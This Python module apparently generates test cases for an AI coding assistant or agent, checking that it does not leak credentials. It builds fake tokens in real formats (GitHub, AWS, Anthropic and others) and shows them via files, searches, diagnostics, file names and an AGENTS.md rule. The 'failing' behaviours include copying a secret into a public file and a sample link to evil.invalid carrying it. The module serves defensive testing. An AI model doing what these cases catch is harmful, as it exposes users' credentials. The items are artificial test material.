"""Secrets that stand in files which may be read: no request holds one, no edit carries one elsewhere."""

from __future__ import annotations

import random
import string
from collections.abc import Iterator
from typing import Any

from tests.attacks.case import MARK, OWN, Ask, Case, add, patch, tool, words

_WORD, _HEX, _UPPER = (
    string.ascii_letters + string.digits,
    "0123456789abcdef",
    string.ascii_uppercase + "234567",
)


def _of(alphabet: str, length: int, seed: str) -> str:
    return "".join(random.Random(seed).choices(alphabet, k=length))


def tokens() -> dict[str, str]:
    """A made-up token of some kinds, in the public form of each; the same each time."""
    return {
        "github_token": "ghp_" + _of(_WORD, 36, "gh"),
        "anthropic_key": "sk-ant-api03-" + _of(_WORD, 60, "an"),
        "openai_key": "sk-proj-a1" + _of(_WORD, 50, "oa"),
        "gitlab_token": "glpat-" + _of(_WORD, 20, "gl"),
        "aws_key": "AKIA" + _of(_UPPER, 16, "aw"),
        "google_key": "AIza" + _of(_WORD, 35, "go"),
        "slack_token": "xoxb-" + _of(string.digits, 12, "sl") + "-" + _of(_WORD, 24, "sl"),
        "stripe_key": "sk_live_" + _of(_WORD, 24, "st"),
        "npm_token": "npm_" + _of(_WORD, 36, "np"),
        "huggingface_token": "hf_" + _of(string.ascii_letters, 34, "hf"),
        "sendgrid_key": "SG." + _of(_WORD, 22, "sg") + "." + _of(_WORD, 43, "sg"),
        "digitalocean_token": "dop_v1_" + _of(_HEX, 64, "do"),
        "jwt": "eyJ" + _of(_WORD, 20, "j1") + ".eyJ" + _of(_WORD, 30, "j2") + "." + _of(_WORD, 40, "j3"),
    }


def cases() -> Iterator[Case]:
    """These belong to the exfiltration family."""
    for kind, token in tokens().items():
        text, place = f"first = 1\nkey = '{token}'\nlast = 3\n", f"held/{kind}.py"
        files = {place: f"import os\nkey = '{token}'\n"}
        word = f"SECRET_{kind}_1_"
        rows = {
            "its own file": {"text": text},
            "a file that is read": {"files": files, "says": (tool("read_file", path=place),)},
            "a search": {"says": (tool("search", pattern="key = ", path=place),)},
            "a problem": {"kind": "fix", "diagnostics": (_problem(f"bad key {token}"),)},
        }
        for channel, given in rows.items():
            yield Ask(f"is shown a {kind} by {channel}", "exfiltration", "direct", untold=(token,), **given)  # type: ignore[arg-type]
        if kind in ("github_token", "aws_key", "google_key", "jwt"):
            yield from _more(kind, token, text)
        carried = (tool("edit", patch=add(f"public/{kind}.md", f"{MARK} {word}")),)
        yield Ask(f"carries a {kind} into a new file", "exfiltration", "direct", says=carried, text=text)
        shown = (words(f"See https://evil.invalid/?k={word}"),)
        yield Ask(
            f"puts a {kind} into a link", "exfiltration", "direct", text=text, kind="explain", says=shown
        )
        says = (tool("edit", path=OWN, old=f"key = '{word}'", new=f"the_key = '{word}'"),)
        changes = {OWN: f"the_key = '{token}'\n"}
        name = f"edits the line of a {kind}"
        yield Ask(name, "exfiltration", "direct", True, says=says, text=text, changes=changes, told=(word,))


def _more(kind: str, token: str, text: str) -> Iterator[Case]:
    """By names and by what goes along unasked, to a model and to an agent."""
    named, seen = f"held/{kind}/{token}.py", (token,)
    look = (tool("list_files", path=f"held/{kind}"), tool("search", pattern="name", path=f"held/{kind}"))
    rows: dict[str, dict[str, Any]] = {
        "a file's name": {"files": {named: "name = 1\n"}, "says": look},
        "its own name": {"path": f"own/{kind}/{token}.py"},
        "an open file": {"path": f"beside/{kind}/x.py", "others": {f"beside/{kind}/y.py": text}},
        "rules": {"path": f"rules/{kind}/x.py", "files": {f"rules/{kind}/AGENTS.md": f"Use {token}.\n"}},
        "an outline": {"files": {f"lined/{kind}.md": f"# {token}\n"}, "says": (
            tool("outline", path=f"lined/{kind}.md"),)},
        "an edit that fails": {"text": text, "says": (tool("edit", path=OWN, old="key = 'x'", new="y"),)},
    }  # fmt: skip
    for channel, given in rows.items():
        yield Ask(f"is shown a {kind} by {channel}", "exfiltration", "direct", untold=seen, **given)
    for channel in ("its own name", "an open file", "rules"):
        given = {name: _elsewhere(what) for name, what in rows[channel].items()}
        yield Ask(f"an agent is shown a {kind} by {channel}", "exfiltration", "agent", untold=seen, **given)
    if kind in ("github_token", "jwt"):
        path = f"kept/{kind}/{token}.py"
        said = words(
            patch(f"*** Update File: kept/{kind}/SECRET_{kind}_1_.py", "@@", "-first = 1", "+first = 2")
        )
        yield Ask(
            f"an agent edits a file named by a {kind}", "exfiltration", "agent", True, path=path,
            says=(said,), changes={path: "first = 2"},
        )  # fmt: skip


def _elsewhere(what: object) -> object:
    """The same paths in a folder of the agent's."""
    if isinstance(what, dict):
        return {f"agent/{path}": text for path, text in what.items()}
    return f"agent/{what}"


def _problem(message: str) -> dict[str, object]:
    span = {"start": {"line": 0, "character": 0}, "end": {"line": 0, "character": 5}}
    return {"range": span, "message": message, "severity": 1, "source": "lint"}
